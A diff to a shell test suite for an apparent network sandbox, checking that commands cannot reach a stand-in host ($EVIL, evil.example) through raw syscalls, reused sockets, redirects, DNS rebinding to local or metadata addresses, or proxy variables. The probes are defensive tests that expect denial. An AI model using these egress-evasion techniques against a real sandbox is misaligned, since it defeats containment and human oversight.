@@ -6,31 +6,7 @@
 . "$T_LIB"
 . "$(dirname "$T_LIB")/netlab.sh"
 
-# --- a probe -----------------------------------------------------------------------------------------------
-
-# evades COMMAND [LEDGER...]: bare it meets a stranger, inside nobody.  LEDGER is OP TARGET of a denial.
-evades() {
-	local command=$1 op=${2:-} target=${3:-}
-	lab_forget
-	run bash -c "$command"
-	strangers | grep -q . || fail "bare, nobody is met by: $command"
-	stopped "$command" ${op:+"$op" "$target"}
-}
-
-# The same of what goes nowhere bare.
-stopped() {
-	local command=$1 op=${2:-} target=${3:-}
-	lab_forget
-	fsh "$command"
-	only_the_good
-	out_lacks "evil "
-	[ -z "$op" ] || recorded "$op" deny "$target"
-}
-
-# A probe in python: what it needs of imports, then its statements.
-py() {
-	printf 'python3 -c "import socket, struct, sys\n%s"' "$1"
-}
+# --- by address ---------------------------------------------------------------------------------------------
 
 t_literals() {
 	lab
@@ -60,6 +36,57 @@ t_literals() {
 	stopped "curl -sS -m 3 'http://[2002:2d21:2042::1]/hello'" connect
 }
 
+# An address that no allowed name answered with is a raw one, good or not.
+t_raw_address() {
+	lab
+	own_host
+	run curl -sS -m 3 http://$GOOD/hello
+	out_is "good $GOOD"
+	lab_forget
+	fence curl -sS -m 3 http://$GOOD/hello
+	rc_not 0
+	recorded connect deny "$GOOD:80"
+	not_reached tcp $GOOD
+	# What an allowed name answered with is its own; its port is the rule's.
+	own_host 'allow = www.own.example:80' 'deny = *.own.example'
+	fsh "getent ahosts www.own.example >/dev/null && curl -sS -m 3 http://$GOOD2/hello"
+	out_is "good $GOOD2"
+	fsh "getent ahosts www.own.example >/dev/null && curl -sS -m 3 http://$GOOD2:8080/hello"
+	rc_not 0
+	recorded connect deny www.own.example:8080
+	not_reached tcp $GOOD2 8080
+}
+
+# A socket that was somewhere good already.
+t_used_sockets() {
+	lab
+	own_host
+	local good="s = socket.socket()
+s.connect(('own.example', 80))"
+	evades "$(py "$good
+libc = __import__('ctypes').CDLL(None)
+libc.connect(s.fileno(), bytes(16), 16)
+s.connect(('$EVIL', 80))")" connect "$EVIL:80"
+	evades "$(py "$good
+s.shutdown(2)
+s.close()
+s = socket.socket()
+s.setblocking(False)
+s.connect_ex(('$EVIL', 80))")" connect "$EVIL:80"
+	evades "$(py "$good
+libc = __import__('ctypes').CDLL(None)
+fd = libc.syscall(41, 2, 1, 0)
+print(libc.syscall(42, fd, struct.pack('>2sH4s8x', b'\\x02\\x00', 80, socket.inet_aton('$EVIL')), 16))")" connect "$EVIL:80"
+	evades "$(py "s = socket.socket()
+s.bind(('0.0.0.0', 0))
+s.settimeout(2)
+s.connect(('$EVIL', 80))")" connect "$EVIL:80"
+	evades "$(py "import asyncio
+asyncio.run(asyncio.open_connection('evil.example', 80))")" resolve evil.example
+}
+
+# --- by other words for the host -----------------------------------------------------------------------------
+
 t_host_header() {
 	lab
 	own_host
@@ -69,6 +96,22 @@ t_host_header() {
 	evades "getent hosts own.example; curl -sS -m 3 --connect-to own.example:80:$EVIL:80 http://own.example/hello" connect "$EVIL:80"
 	evades "curl -sS -k -m 3 --resolve own.example:443:[$EVIL6] https://own.example/hello"
 	denied_in_ledger $EVIL6
+}
+
+t_redirects() {
+	lab
+	own_host
+	evades "curl -sSL -m 3 http://own.example/redirect" resolve evil.example
+	evades "curl -sSL -m 3 http://own.example/redirect-address" connect "$EVIL:80"
+	evades "wget -q -T 3 -t 1 -O - http://own.example/redirect" resolve evil.example
+	evades "$(py "import urllib.request
+urllib.request.urlopen('http://own.example/redirect', timeout=3)")" resolve evil.example
+	evades "node -e \"fetch('http://own.example/redirect-address').then(r => r.text()).then(console.log)\"" connect "$EVIL:80"
+	evades "git -c http.followRedirects=true ls-remote http://evil.example/repo.git" resolve evil.example
+	evades "git -c http.curloptResolve=own.example:80:$EVIL ls-remote http://own.example/repo.git" connect "$EVIL:80"
+	# And back again: what is good stays so.
+	fence curl -sSL -m 3 http://own.example/redirect-own
+	out_is "good own.example"
 }
 
 # Names that end, begin or look like the allowed one.
@@ -90,45 +133,84 @@ t_names_alike() {
 	not_asked www.evil.example
 }
 
-t_other_packets() {
+# An allowed name that answers with an address of ours, of the cloud's or of the neighbours'.
+t_rebinding() {
 	lab
+	local name
+	python3 - "$S" <<'END' &
+import socket, sys
+for family, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
+    s = socket.socket(family)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind((addr, 8099))
+    s.listen(64)
+    last = s if family == socket.AF_INET else None or s
+    import threading
+    def serve(s=s):
+        while True:
+            c, _ = s.accept()
+            open(sys.argv[1] + "/local", "a").write("x")
+            c.sendall(b"HTTP/1.0 200 OK\r\n\r\nevil local\n")
+            c.close()
+    threading.Thread(target=serve).start()
+open(sys.argv[1] + "/serving", "w").close()
+END
+	until_true 10 test -e "$S/serving" || fail "no local server"
 	own_host
-	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
-s.sendto(b'\\\\x08' + b'\\\\0' * 7 + b'secret', ('$EVIL', 1))")"
-	evades "$(py "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
-s.sendto(b'\\\\x80' + b'\\\\0' * 7 + b'secret', ('$EVIL6', 1))")"
-	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
-s.sendto(b'secret', ('$EVIL', 4444))")"
-	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
-s.connect(('$EVIL', 4444))")"
-	evades "$(py "s = socket.socket()
-s.sendto(b'GET /hello HTTP/1.0\\\\r\\\\n\\\\r\\\\n', 0x20000000, ('$EVIL', 80))")"
-	# A source route would lead where the address does not.
-	stopped "$(py "s = socket.socket()
-s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b'\\\\x83\\\\x07\\\\x04' + socket.inet_aton('$EVIL') + b'\\\\0')
-s.connect(('own.example', 80))")"
+	for name in rebind-lo rebind-lo6; do
+		rm -f "$S/local"
+		run curl -sS -m 3 http://$name.own.example:8099/
+		out_is "evil local"
+		rm -f "$S/local"
+		fence curl -sS -m 3 http://$name.own.example:8099/
+		rc_not 0
+		missing "$S/local"
+		recorded connect deny $name.own.example
+	done
+	# Where the policy has a rule for localhost it is localhost that it speaks of.
+	fence curl -sS -m 3 http://localhost:8099/
+	out_is "evil local"
+	stopped "curl -sS -m 3 http://rebind-mapped.own.example:8099/"
+	rm -f "$S/local"
+	for name in rebind-private rebind-metadata rebind-metadata6; do
+		evades "curl -sS -m 3 http://$name.own.example/hello" connect $name.own.example
+	done
+	missing "$S/local"
+	# Of two addresses the public one is reached, the other is not.
+	fence curl -sS -m 3 http://rebind-mixed.own.example/hello
+	out_is "good rebind-mixed.own.example"
+	fence curl -sS -m 3 http://rebind-mixed.own.example:8099/
+	missing "$S/local"
 }
 
-# The real ones.
-t_agents_of_the_user() {
+# --- by proxies ------------------------------------------------------------------------------------------------
+
+# A variable that the user has set: the address of the proxy is judged as any other.
+t_proxies() {
 	lab
-	need ssh-agent ssh-add tmux
 	own_host
-	ssh-agent -D -a "$XDG_RUNTIME_DIR/agent.1" >/dev/null &
-	tmux -S "$XDG_RUNTIME_DIR/tmux" new-session -d "sleep 60" || fail "tmux"
-	until_true 5 test -S "$XDG_RUNTIME_DIR/agent.1" || fail "ssh-agent"
-	export SSH_AUTH_SOCK=$XDG_RUNTIME_DIR/agent.1
-	run ssh-add -l
-	out_has "no identities"
-	fence env SSH_AUTH_SOCK="$SSH_AUTH_SOCK" ssh-add -l
-	out_lacks "no identities"
-	denied unix "$SSH_AUTH_SOCK"
-	run tmux -S "$XDG_RUNTIME_DIR/tmux" list-sessions
-	rc_is 0
-	fence tmux -S "$XDG_RUNTIME_DIR/tmux" run-shell "touch $HOME/gone-out"
-	rc_not 0
-	missing "$HOME/gone-out"
-	recorded unix deny "$XDG_RUNTIME_DIR/tmux"
+	local v
+	export http_proxy=http://$EVIL:3128 https_proxy=http://$EVIL:3128 ALL_PROXY=http://$EVIL:3128
+	evades "curl -sS -m 3 http://own.example/hello" connect "$EVIL:3128"
+	evades "curl -sS -m 3 https://own.example/hello" connect "$EVIL:3128"
+	evades "wget -q -T 3 -t 1 -O - http://own.example/hello" connect "$EVIL:3128"
+	evades "git ls-remote http://own.example/repo.git" connect "$EVIL:3128"
+	evades "$(py "import urllib.request
+urllib.request.urlopen('http://own.example/hello', timeout=3)")" connect "$EVIL:3128"
+	evades "perl -MHTTP::Tiny -e 'HTTP::Tiny->new(timeout => 3)->get(q(http://own.example/hello))'" connect "$EVIL:3128"
+	unset http_proxy https_proxy
+	export ALL_PROXY=socks5h://evil.example:4444
+	evades "curl -sS -m 3 http://own.example/hello" resolve evil.example
+	unset ALL_PROXY
+	# A good proxy may be met: whither it leads is its own affair.
+	export http_proxy=http://own.example:3128
+	lab_forget
+	fence curl -sS -m 3 http://elsewhere.example/
+	out_is proxied
+	only_the_good
+	recorded connect allow own.example:3128
+	# The variables change nothing of what goes without them.
+	evades "curl -sS -m 3 --noproxy '*' http://evil.example/hello" resolve evil.example
 }
 
 scenario "$@"
